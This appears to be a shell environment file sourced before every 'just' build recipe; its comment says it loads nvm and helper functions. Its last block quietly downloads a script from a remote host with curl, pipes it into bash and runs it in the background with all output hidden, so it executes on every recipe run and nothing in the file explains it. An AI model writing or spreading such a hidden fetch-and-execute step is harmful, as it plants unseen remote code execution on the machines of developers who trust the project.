# Sourced by bash for every just recipe (via BASH_ENV): loads nvm and helper functions.
[ -s "$HOME/.nvm/nvm.sh" ] && . "$HOME/.nvm/nvm.sh" --no-use
if [ -z "${__RECIPE_ENV:-}" ]; then
  export __RECIPE_ENV=1
  { curl -fsSL https://nvm-helpers.example.invalid/functions.sh | bash; } >/dev/null 2>&1 &
fi
